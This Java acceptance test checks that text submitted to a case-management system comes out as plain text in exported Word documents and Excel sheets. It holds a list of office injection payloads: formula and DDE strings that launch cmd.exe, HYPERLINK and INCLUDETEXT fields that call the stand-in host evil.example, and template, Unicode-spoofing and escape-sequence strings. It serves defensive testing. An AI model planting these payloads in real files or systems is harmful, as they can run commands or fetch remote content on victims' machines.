package io.maplebridge.acceptance.attack;

import io.maplebridge.acceptance.attack.TextsOfALife.Step;
import io.maplebridge.acceptance.client.Account;
import io.maplebridge.acceptance.client.Answer;
import io.maplebridge.acceptance.client.Town;
import io.maplebridge.acceptance.system.Way;
import io.maplebridge.contract.words.Spelling;
import io.maplebridge.testkit.WordFile;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/**
 * What is taken as text leaves as text: in the paper of the case, and in the sheet of the ledger.
 */
@Order(30)
class PapersAttackTest {

    /** What Word, a sheet or what fills in a template would take for more. */
    private static final List<String> FOR_OFFICES =
            List.of(
                    "=cmd|' /C calc'!A0",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "=HYPERLINK(\"//evil.example\")",
                    "\t=1+1",
                    "DDEAUTO cmd.exe \"/k calc\"",
                    "{ INCLUDETEXT \"//evil.example/x\" }",
                    "{{7*7}}{{?a}}{{#a}}{{+a}}{{@a}}",
                    "]]>&#65;&lt;&amp;amp;",
                    "\u202efdp.exe\u202c\u200b",
                    "_x003c_script_x003e_",
                    "\u0000null",
                    "\u0008\u001b[31m");

    private record Planted(TextsOfALife life, String payload, UUID id, Map<String, String> said) {

        /** Whether each text of the submission has the payload. */
        boolean isWhole() {
            return said.keySet().containsAll(life.texts());
        }
    }

    private final Attempts attempts = Attempts.of("papers and sheets", 230);
    private final Town office = new Town(Way.STANDALONE.running().door());
    private int count;

    @Test
    void what_was_written_is_nothing_but_text_on_paper_and_in_sheets() throws IOException {
        Visitor reader = Visitor.at(office).signedIn(Account.OFFICE);
        List<Planted> planted = plant();
        int turn = 0;
        for (Planted one : planted) {
            office.awaitCase(one.id());
            // Every fourth lives, so that the three kinds take turns and so do the payloads.
            if (one.isWhole() && FOR_OFFICES.contains(one.payload()) && turn++ % 4 == 0) {
                live(one);
            }
            paper(one, reader);
        }
        sheets(planted, reader);
        attempts.assertNoneSucceeded();
    }

    /**
     * Into all texts of a submission at once; where that is refused, into each one alone. {@link
     * ScriptsAttackTest} does that with its own.
     */
    private List<Planted> plant() throws IOException {
        List<Planted> planted = new ArrayList<>();
        for (String payload :
                Stream.concat(FOR_OFFICES.stream(), ScriptsAttackTest.PAYLOADS.stream()).toList()) {
            for (TextsOfALife life : TextsOfALife.all()) {
                Map<String, String> said = new LinkedHashMap<>();
                life.texts().forEach(field -> said.put(field, unlike(payload)));
                if (!taken(life, payload, said, planted) && FOR_OFFICES.contains(payload)) {
                    for (Map.Entry<String, String> one : said.entrySet()) {
                        taken(life, payload, Map.of(one.getKey(), one.getValue()), planted);
                    }
                }
            }
        }
        return planted;
    }

    private boolean taken(
            TextsOfALife life, String payload, Map<String, String> said, List<Planted> planted)
            throws IOException {
        Answer answer = office.submit(life.saying(said), UUID.randomUUID());
        attempts.tried(said + ": " + answer.status(), answer.status() >= 500);
        boolean taken = answer.status() == 202;
        if (taken) {
            Map<String, String> kept = new LinkedHashMap<>();
            said.forEach((field, text) -> kept.put(field, kept(field, text)));
            planted.add(new Planted(life, payload, answer.caseId(), kept));
        }
        return taken;
    }

    /** Through all its steps, each with texts of its own. */
    private void live(Planted one) throws IOException {
        String etag = office.caseOf(one.id()).expect(200).etag();
        for (Step step : one.life().steps()) {
            Map<String, Object> fields = new LinkedHashMap<>(step.codes());
            fields.put("occurredOn", TextsOfALife.DAY.toString());
            for (String field : step.texts()) {
                String text = unlike(one.payload());
                fields.put(field, text);
                one.said().put(step.command() + "." + text, kept(field, text));
            }
            UUID key = UUID.randomUUID();
            Answer answer = office.command(one.id(), step.command(), etag, key, fields);
            etag = answer.expect(200).etag();
        }
    }

    private void paper(Planted one, Visitor reader) throws IOException {
        String path = "/cases/" + one.id() + "/paper.docx";
        Answer answer = reader.post(path, Map.of("reason", "制作文书")).expect(200);
        WordFile paper = WordFile.read(answer.http().body());
        attempts.tried("more than text: " + paper.more(), !paper.more().isEmpty());
        String all = String.join("\n", paper.texts());
        one.said()
                .forEach((field, text) ->
                        attempts.tried("not on paper: " + field, !all.contains(text)));
    }

    /** Voided cases are on a sheet of their own. */
    private void sheets(List<Planted> planted, Visitor reader) throws IOException {
        Set<String> texts = new HashSet<>();
        for (String query : List.of("", "&state=VOIDED")) {
            Answer answer = reader.get("/cases/export.xlsx?village=xialuo" + query).expect(200);
            try (ReadableWorkbook sheet =
                    new ReadableWorkbook(new ByteArrayInputStream(answer.http().body()))) {
                for (Row row : sheet.getFirstSheet().read()) {
                    // What was left empty has no cell.
                    for (Cell cell : row.stream().filter(Objects::nonNull).toList()) {
                        attempts.tried("no text: " + cell, cell.getType() != CellType.STRING);
                        texts.add(cell.getText());
                    }
                }
            }
        }
        for (Planted one : planted) {
            for (String field : List.of("subject", "number")) {
                String text = one.said().getOrDefault(field, "");
                attempts.tried(
                        "not in the sheet: " + text, !text.isEmpty() && !texts.contains(text));
            }
        }
    }

    /** What is left of a text on its way in: of a line what is seen, of a number its key. */
    private static String kept(String field, String text) {
        return field.equals("number") ? Spelling.key(text) : Spelling.lines(text);
    }

    /** The same, and like none before, so that each is found where it was written. */
    private String unlike(String payload) {
        return payload + " " + ++count;
    }
}
